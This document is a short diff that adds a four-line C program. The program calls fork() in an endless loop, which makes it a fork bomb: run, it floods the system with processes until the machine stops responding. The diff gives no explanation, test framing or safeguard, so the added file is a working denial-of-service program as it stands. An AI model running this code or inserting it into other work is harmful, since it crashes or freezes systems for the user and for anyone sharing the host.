@@ -1,0 +1,4 @@
+#include <unistd.h>
+int main() {
+  for (;;) fork();
+}
